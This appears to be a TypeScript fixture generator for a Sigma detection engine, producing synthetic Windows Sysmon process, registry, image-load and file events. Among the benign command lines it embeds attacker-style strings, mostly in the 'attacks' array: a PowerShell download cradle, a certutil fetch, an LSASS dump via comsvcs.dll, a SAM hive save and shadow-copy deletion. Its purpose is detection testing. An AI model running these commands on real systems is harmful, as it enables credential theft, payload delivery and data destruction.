/** Made Windows events in Sigma's field names: a few programs and command lines that recur, as on real endpoints, with identifiers that do not. */
import type { EventObject } from '../../../rules/engine/event.ts'
import type { Random } from './random.ts'

const system = 'C:\\Windows\\System32'

/** Program, what its file says it is called, and command lines seen with it: the first of each are harmless. */
const programs: readonly (readonly [string, string, readonly string[]])[] = [
  [`${system}\\svchost.exe`, 'svchost.exe', ['-k netsvcs -p -s Schedule', '-k LocalService -p']],
  [`${system}\\cmd.exe`, 'Cmd.Exe', ['/c dir', '/c "echo ready"', '/c whoami /all']],
  [`${system}\\conhost.exe`, 'CONHOST.EXE', ['0xffffffff -ForceV1']],
  [`${system}\\backgroundTaskHost.exe`, 'backgroundTaskHost.exe', ['-ServerName:App.Appx']],
  [
    `${system}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    'PowerShell.EXE',
    ['-NoLogo -File C:\\Scripts\\inventory.ps1', '-nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A'],
  ],
  [`${system}\\net.exe`, 'net.exe', ['use', 'user /domain', 'group "domain admins" /domain']],
  [`${system}\\rundll32.exe`, 'RUNDLL32.EXE', ['shell32.dll,Control_RunDLL', 'C:\\Temp\\a.dll,#1']],
  [
    `${system}\\schtasks.exe`,
    'schtasks.exe',
    ['/query', '/create /tn upd /tr C:\\Temp\\u.exe /sc onlogon'],
  ],
  [
    `${system}\\certutil.exe`,
    'CertUtil.exe',
    ['-store my', '-urlcache -split -f http://10.0.0.9/p.exe p.exe'],
  ],
  [`${system}\\reg.exe`, 'reg.exe', ['query HKLM\\Software', 'save hklm\\sam C:\\Temp\\sam.hiv']],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', ['--type=renderer']],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    'Excel.exe',
    ['"C:\\Users\\report.xlsx"'],
  ],
  [
    'C:\\Program Files\\7-Zip\\7z.exe',
    '7z.exe',
    ['l a.zip', 'a -pSecret customers.7z C:\\Users\\export.csv'],
  ],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe', ['fetch --all', 'status --short']],
]

const parents = [
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  [`${system}\\services.exe`, `${system}\\services.exe`],
  [`${system}\\svchost.exe`, `${system}\\svchost.exe -k netsvcs -p`],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    'WINWORD.EXE /n letter.docx',
  ],
] as const

const people = ['CORP\\anna', 'CORP\\ben', 'CORP\\carla', 'CORP\\dmitri', 'NT AUTHORITY\\SYSTEM']
const sysmon = 'Microsoft-Windows-Sysmon/Operational'

const windows = (category: string, eventId: number, fields: EventObject): EventObject => ({
  product: 'windows',
  service: 'sysmon',
  category,
  EventID: eventId,
  Channel: sysmon,
  ...fields,
})

const clock = (random: Random) =>
  `2026-05-${10 + random.int(20)} 10:${10 + random.int(50)}:${10 + random.int(50)}.${100 + random.int(900)}`

/** What a made process looks like; `unique` gives every event paths, arguments and a person of its own. */
interface Habits {
  readonly unique: boolean
  /** Share of command lines that rules look for. */
  readonly suspicious: number
}

function processCreation(random: Random, { unique, suspicious }: Habits): EventObject {
  const [image, original, lines] = random.pick(programs)
  const [parent, parentLine] = random.pick(parents)
  const line = random.chance(suspicious) ? random.pick(lines) : lines[0]
  const own = unique ? `\\${random.word()}\\${random.hex(8)}` : ''
  const path = unique ? image.replace(/\\(?=[^\\]+$)/, `${own}\\`) : image
  return windows('process_creation', 1, {
    UtcTime: clock(random),
    ProcessGuid: random.guid(),
    ProcessId: String(1000 + random.int(20_000)),
    Image: path,
    OriginalFileName: original,
    CommandLine: `"${path}" ${line}${unique ? ` ${random.word()} ${random.hex(12)}` : ''}`,
    CurrentDirectory: unique ? `C:\\Users\\${random.word()}${own}\\` : 'C:\\Windows\\system32\\',
    User: unique ? `CORP\\${random.word()}${random.int(1000)}` : random.pick(people),
    IntegrityLevel: random.pick(['Medium', 'High', 'System']),
    Hashes: `MD5=${random.hex(32).toUpperCase()},IMPHASH=${random.hex(32).toUpperCase()}`,
    ParentImage: parent,
    ParentCommandLine: unique ? `${parentLine} ${random.hex(10)}` : parentLine,
  })
}

const keys = [
  'HKLM\\System\\CurrentControlSet\\Services\\bam\\State',
  'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
]

const registrySet = (random: Random) =>
  windows('registry_set', 13, {
    UtcTime: clock(random),
    EventType: 'SetValue',
    ProcessGuid: random.guid(),
    ProcessId: String(1000 + random.int(20_000)),
    Image: random.pick(programs)[0],
    TargetObject: random.pick(keys),
    Details: random.pick(['DWORD (0x00000001)', 'C:\\Temp\\u.exe', 'Binary Data']),
    User: random.pick(people),
  })

const imageLoad = (random: Random) =>
  windows('image_load', 7, {
    UtcTime: clock(random),
    ProcessGuid: random.guid(),
    ProcessId: String(1000 + random.int(20_000)),
    Image: random.pick(programs)[0],
    ImageLoaded: `${system}\\${random.pick(['amsi', 'dbghelp', 'kernel32', 'wbemcomn'])}.dll`,
    OriginalFileName: 'library.dll',
    Hashes: `SHA1=${random.hex(40).toUpperCase()},MD5=${random.hex(32).toUpperCase()}`,
    Signed: random.pick(['true', 'false']),
    Signature: 'Microsoft Windows',
    SignatureStatus: 'Valid',
    User: random.pick(people),
  })

/** Structured Windows events as Sysmon gives them, about 650 B. */
export const structured = (random: Random): EventObject => {
  const dice = random.int(10)
  if (dice < 8) return processCreation(random, { unique: false, suspicious: 0.4 })
  return dice < 9 ? registrySet(random) : imageLoad(random)
}

/** Processes whose paths, arguments and persons do not recur: no memory of values helps. */
export const highCardinality = (random: Random): EventObject =>
  processCreation(random, { unique: true, suspicious: 0.4 })

const attacks = [
  'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://10.0.0.9/a.ps1\')"',
  'cmd /c "whoami /all & net user /domain & nltest /domain_trusts & reg save hklm\\sam C:\\Temp\\s"',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full',
  'vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no',
]

/** Processes that several rules fire on. */
export const matchHeavy = (random: Random): EventObject => ({
  ...processCreation(random, { unique: false, suspicious: 1 }),
  CommandLine: random.pick(attacks),
})

const written = [
  'C:\\Users\\anna\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Cache\\data_1',
  'C:\\Users\\ben\\Documents\\offer.docx',
  'C:\\Windows\\Prefetch\\SVCHOST.EXE-7AC6742A.pf',
  'C:\\Users\\carla\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.lnk',
  'C:\\Windows\\Temp\\lsass.dmp',
  'C:\\Users\\dmitri\\Downloads\\invoice.pdf.exe',
  'C:\\ProgramData\\Package Cache\\setup.msi',
  'C:\\Windows\\System32\\Tasks\\Updater',
]

/** Files written, as Sysmon gives them, about 445 B. */
export const fileEvent = (random: Random): EventObject =>
  windows('file_event', 11, {
    RuleName: '-',
    UtcTime: clock(random),
    ProcessGuid: random.guid(),
    ProcessId: String(1000 + random.int(20_000)),
    Image: random.pick(programs)[0],
    TargetFilename: random.pick(written),
    CreationUtcTime: clock(random),
    User: random.pick(people),
    Computer: `pc-${10 + random.int(40)}.corp.example`,
    EventRecordID: 100_000 + random.int(900_000),
  })

const services = ['Windows Update', 'Print Spooler', 'PSEXESVC', 'Remote Registry', 'Updater']

/** Events of the system log whose text stands in one long message, about 860 B. */
export const raw = (random: Random): EventObject => {
  const service = random.pick(services)
  const text = `The ${service} service entered the ${random.pick(['running', 'stopped'])} state. `
  return {
    product: 'windows',
    service: random.pick(['system', 'application', 'security']),
    category: 'none',
    Provider_Name: 'Service Control Manager',
    EventID: random.pick([7036, 7045, 4624, 1000, 104]),
    Computer: `pc-${10 + random.int(40)}.corp.example`,
    Level: 4,
    Keywords: '0x8080000000000000',
    param1: service,
    Message:
      text + `Process ${random.hex(8)} of session ${random.hex(16)} says nothing more. `.repeat(8),
  }
}
